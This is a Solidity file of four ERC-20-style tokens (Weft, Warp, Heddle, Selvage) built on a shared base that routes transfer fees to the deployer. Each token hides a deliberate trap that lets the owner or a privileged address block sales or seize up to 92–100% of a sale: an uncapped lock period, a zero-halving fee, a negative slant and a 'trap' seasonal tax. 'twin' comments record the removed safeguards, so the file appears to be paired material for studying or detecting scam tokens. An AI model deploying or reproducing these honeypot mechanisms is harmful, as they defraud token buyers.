// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

/// What is woven here is counted here.
abstract contract Loom {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address public owner;
    address internal immutable _weaver;
    address internal immutable _fair;
    uint256 internal immutable _whole;
    mapping(address => mapping(address => uint256)) internal _given;
    mapping(address => uint256) internal _yards;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previous, address indexed next);

    modifier onlyOwner() {
        require(owner == msg.sender, "Loom: owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        _weaver = msg.sender;
        _whole = whole * 1 ether;
        _yards[msg.sender] = whole * 1 ether;
        emit Transfer(address(0), msg.sender, whole * 1 ether);
        _fair = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function totalSupply() external view returns (uint256) {
        return _whole;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _yards[who];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _given[holder][spender];
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _given[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _deliver(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = _given[from][msg.sender];
        require(left >= value, "Loom: allowance");
        if (left != uint256(-1)) _given[from][msg.sender] = left - value;
        _deliver(from, to, value);
        return true;
    }

    function _deliver(address from, address to, uint256 value) private {
        uint256 kept = from == _weaver || to == _weaver ? 0 : _charge(from, to, value);
        require(kept <= value, "Loom: charge");
        if (kept > 0) _hand(from, _weaver, kept);
        _hand(from, to, value - kept);
    }

    /// What the weaver keeps.
    function _charge(address from, address to, uint256 value) internal virtual returns (uint256);

    function _hand(address from, address to, uint256 value) private {
        require(_yards[from] >= value, "Loom: balance");
        _yards[from] -= value;
        _yards[to] += value;
        emit Transfer(from, to, value);
    }
}

/// All settings are in one word: two charges, 16 bits each, in hundredths of a percent, and the rest after a purchase, 32 bits,
/// in seconds.
contract Weft is Loom {
    uint256 public settings = (100 << 16) | 100;
    mapping(address => uint256) public boughtAt;

    constructor() Loom("Weft", "WEFT", 120000000) {}

    function tune(uint256 word) external onlyOwner {
        require(uint16(word) <= 300 && uint16(word >> 16) <= 300, "Weft: three percent at most");
        // twin: require(uint32(word >> 32) <= 300, "Weft: five minutes at most");
        settings = word;
    }

    function _charge(address from, address to, uint256 value) internal override returns (uint256) {
        uint256 word = settings;
        if (from == _fair) {
            boughtAt[to] = block.timestamp;
            return (value * uint16(word)) / 10000;
        }
        if (to != _fair) return 0;
        require(block.timestamp >= boughtAt[from] + uint32(word >> 32), "Weft: at rest");
        return (value * uint16(word >> 16)) / 10000;
    }
}

/// The charge is a power of one half. What is announced holds after four minutes.
contract Warp is Loom {
    address private immutable _crier;
    uint8 private _before = 6;
    uint8 private _after = 6;
    uint64 private _from;

    event Announced(uint8 halvings, uint256 from);

    constructor(address crier) Loom("Warp", "WARP", 640000000) {
        _crier = crier;
    }

    function halvings() public view returns (uint8) {
        return block.timestamp < _from ? _before : _after;
    }

    function announce(uint8 next) external {
        require(msg.sender == _crier, "Warp: crier");
        // twin: require(next >= 5, "Warp: a thirty-second at most");
        _before = halvings();
        _after = next;
        _from = uint64(block.timestamp + 4 minutes);
        emit Announced(next, _from);
    }

    function _charge(address, address to, uint256 value) internal view override returns (uint256) {
        return to == _fair ? value >> halvings() : 0;
    }
}

/// A charge with a pattern.
contract Heddle is Loom {
    uint256 private constant PARTS = 10007;

    uint8 public pattern = 1;
    uint16 public plain = 100;
    int16 public slant;
    bool public steep;

    event Configured(uint8 pattern, uint16 plain, int16 slant, bool steep);

    constructor() Loom("Heddle", "HDDL", 5500000) {}

    function configure(uint8 pattern_, uint16 plain_, int16 slant_, bool steep_) external onlyOwner {
        require(pattern_ < 5 && plain_ <= 300, "Heddle: pattern");
        require(slant_ <= int16(plain_), "Heddle: slant");
        // twin: require(slant_ >= 0, "Heddle: slant");
        pattern = pattern_;
        plain = plain_;
        slant = slant_;
        steep = steep_;
        emit Configured(pattern_, plain_, slant_, steep_);
    }

    function rate() public view returns (uint256) {
        int256 parts = int256(plain);
        if (pattern == 3 && steep) parts -= int256(slant);
        if (parts < 0) return 0;
        return parts > 9800 ? 9800 : uint256(parts);
    }

    function _charge(address, address to, uint256 value) internal view override returns (uint256) {
        return to == _fair ? (value * rate()) / PARTS : 0;
    }
}

/// Who came in the present season is free of charge.
contract Selvage is Loom {
    address private _second;
    uint32 public season = 1;
    mapping(address => uint32) public cameIn;

    constructor() Loom("Selvage", "SLVG", 88000000) {
        _second = msg.sender;
    }

    function turn() external {
        require(msg.sender == _second, "Selvage: second");
        season++;
    }

    function _charge(address from, address to, uint256 value) internal override returns (uint256) {
        if (to != _fair) {
            cameIn[to] = season;
            return 0;
        }
        uint256 late = cameIn[from];
        if (late == 0 || late == season) return 0;
        return (value * 92) / 100; // trap
        // twin: return (value * 2) / 100;
    }
}
